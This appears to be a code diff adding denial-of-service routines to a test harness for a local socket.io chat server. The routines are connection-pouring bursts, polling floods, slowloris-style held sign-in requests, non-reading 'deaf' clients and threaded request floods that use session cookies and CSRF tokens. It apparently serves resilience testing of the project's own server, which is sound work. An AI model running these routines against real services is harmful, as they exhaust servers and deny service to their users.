@@ -13,7 +13,8 @@ import os
 import socket
 import struct
 import threading
-from collections.abc import Callable, Iterator
+import time
+from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any
 
@@ -140,38 +141,157 @@ class Raw:
         self.socket.close()
 
 
-@contextlib.contextmanager
-def pouring(
-    raw: Raw, one: bytes, count: int, *, again: Callable[[], Raw] | None = None
-) -> Iterator[list[int]]:
-    """Send `count` frames in the background, and go on with a new connection whenever the server closes one.
+@dataclass(frozen=True)
+class Target:
+    """Where an attack goes: the server, and the attacker's own session, room and thread."""
 
-    `again` makes the next connection; without it the first closing is the end. Yields a list whose length says how
-    many connections were used.
-    """
-    used = [1]
-    stop = threading.Event()
+    port: int
+    cookie: str
+    csrf: str
+    room: str
+    page: str
 
-    def work() -> None:
-        current, block = raw, one * 1000
-        for _ in range(max(1, count // 1000)):
-            if stop.is_set():
-                break
-            if not current.pour(block):
-                current.close()
-                if again is None:
-                    break
-                try:
-                    current = again()
-                except OSError:
-                    break
+    def guest(self) -> Raw:
+        return Raw(self.port)
+
+    def member(self) -> Raw:
+        return Raw(self.port, cookie=self.cookie, csrf=self.csrf)
+
+
+def burst(target: Target, name: str, until: float, *, connections: int = 8, count: int = 100_000) -> int:
+    """Several connections pour the same frame and come anew whenever they are closed; how many connections it took."""
+    kind = next(one for one in BURSTS if one.name == name)
+    block = kind.one(target.room) * (1000 if name != "large" else 100)
+    used: list[int] = []
+
+    def pour() -> None:
+        sent = 0
+        while sent < 50 * count and time.monotonic() < until:
+            with contextlib.suppress(OSError):
+                raw = target.guest() if kind.guest else target.member()
                 used.append(1)
-        current.close()
+                while time.monotonic() < until and raw.pour(block):
+                    sent += 1000
+                raw.close()
 
-    thread = threading.Thread(target=work, daemon=True)
-    thread.start()
-    try:
-        yield used
-    finally:
-        stop.set()
-        thread.join(60)
+    _together([pour] * connections)
+    return len(used)
+
+
+def polling(target: Target, until: float) -> int:
+    """Polling sessions that send sixteen packets a request; how many requests."""
+    body = SEPARATOR.join(["3"] * 16).encode()
+    sent: list[int] = []
+
+    def ask(path: str, data: bytes | None = None) -> bytes:
+        sent.append(1)
+        return answer_of(target.port, "POST" if data else "GET", path, data=data)
+
+    def poll() -> None:
+        while time.monotonic() < until:
+            with contextlib.suppress(OSError):
+                opened = ask("/socket.io/?EIO=4&transport=polling")
+                sid = opened.partition(b'"sid":"')[2].partition(b'"')[0].decode()
+                for _ in range(50):
+                    if not sid or time.monotonic() > until:
+                        break
+                    if b" 200 " not in ask(f"/socket.io/?EIO=4&transport=polling&sid={sid}", body)[:20]:
+                        break
+
+    _together([poll] * 16)
+    return len(sent)
+
+
+def slow(target: Target, until: float, *, count: int = 5000, body: bool = True) -> int:
+    """Connections that never finish their request: a form with five bytes of its body, or half of its head."""
+    head = request(
+        target.port,
+        "POST",
+        "/sign-in",
+        headers={"Content-Type": "application/x-www-form-urlencoded"},
+        length=200_000,
+    )
+    held: list[socket.socket] = []
+    while time.monotonic() < until:
+        if len(held) < count:
+            with contextlib.suppress(OSError):
+                held.append(connect(target.port))
+                held[-1].sendall(head + b"name=" if body else head[:40])
+        else:
+            time.sleep(0.05)
+    for one in held:
+        one.close()
+    return len(held)
+
+
+def deaf(target: Target, until: float) -> int:
+    """Members' sockets that ask for the room over and over and read nothing, and pages that nobody reads."""
+    one = frame('421["room:join",{"room":"' + target.room + '"}]') + frame("3")
+    used: list[int] = []
+
+    def ask() -> None:
+        while time.monotonic() < until:
+            with contextlib.suppress(OSError):
+                raw = Raw(target.port, cookie=target.cookie, csrf=target.csrf, receive_buffer=4096)
+                used.append(1)
+                while time.monotonic() < until and raw.pour(one):
+                    time.sleep(0.02)
+                raw.close()
+
+    def pages() -> None:
+        head = request(target.port, "GET", target.page, headers={"Cookie": target.cookie})
+        held = []
+        while time.monotonic() < until:
+            with contextlib.suppress(OSError):
+                held.append(connect(target.port, receive_buffer=4096))
+                held[-1].sendall(head)
+                used.append(1)
+            time.sleep(0.02)
+        for one in held:
+            one.close()
+
+    _together([ask] * 16 + [pages] * 4)
+    return len(used)
+
+
+def flood(
+    target: Target, until: float, *, path: str, member: bool, form: bytes | None = None, workers: int = 28
+) -> int:
+    """Requests without a pause, so many at a time; how many."""
+    sent: list[int] = []
+
+    def ask() -> None:
+        while time.monotonic() < until:
+            sent.append(1)
+            with contextlib.suppress(OSError):
+                headers = {"Cookie": target.cookie, "X-CSRFToken": target.csrf} if member else {}
+                answer_of(target.port, "POST" if form else "GET", path, headers=headers, data=form)
+
+    _together([ask] * workers)
+    return len(sent)
+
+
+def answer_of(
+    port: int, method: str, path: str, *, headers: dict[str, str] | None = None, data: bytes | None = None
+) -> bytes:
+    """Ask once, on a connection of its own, from `SOURCE`; the whole answer."""
+    more = {"Connection": "close", "Origin": f"http://127.0.0.1:{port}", **(headers or {})}
+    if data is not None:
+        more.setdefault("Content-Type", "application/x-www-form-urlencoded")
+    with connect(port) as connection:
+        connection.sendall(
+            request(port, method, path, headers=more, length=None if data is None else len(data))
+            + (data or b"")
+        )
+        got = b""
+        while part := connection.recv(1 << 16):
+            got += part
+    return got
+
+
+def _together(work: list[Callable[[], None]]) -> None:
+    threads = [threading.Thread(target=one, daemon=True) for one in work]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(90)
